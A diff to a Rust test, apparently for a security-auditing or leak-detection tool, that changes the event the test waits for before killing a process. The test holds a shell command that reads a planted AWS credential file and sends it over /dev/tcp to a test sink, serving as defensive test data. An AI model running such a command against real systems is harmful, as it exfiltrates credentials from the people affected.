@@ -386,7 +386,7 @@ fn a_leak_before_the_kill_is_still_a_leak() -> Result {
     let (scene, desk) = (Scene::new()?, directory()?);
     let secret = scene.home.credential("aws");
     let script = format!("cat {} > /dev/tcp/{SINK_V4}/{}; echo ready; sleep 60", secret.display(), scene.sink.port());
-    let recording = killed_while(&scene, desk.path(), &format!("exec bash -c '{script}'"), "\"network\"")?;
+    let recording = killed_while(&scene, desk.path(), &format!("exec bash -c '{script}'"), "\"call\":\"send\"")?;
     assert!(scene.sink.contains(scene.home.canary("aws")), "audit stops nothing");
     let replayed = run(detector(["replay"])?.arg(&recording))?;
     replayed.assert_ended(FAIL, &[]);
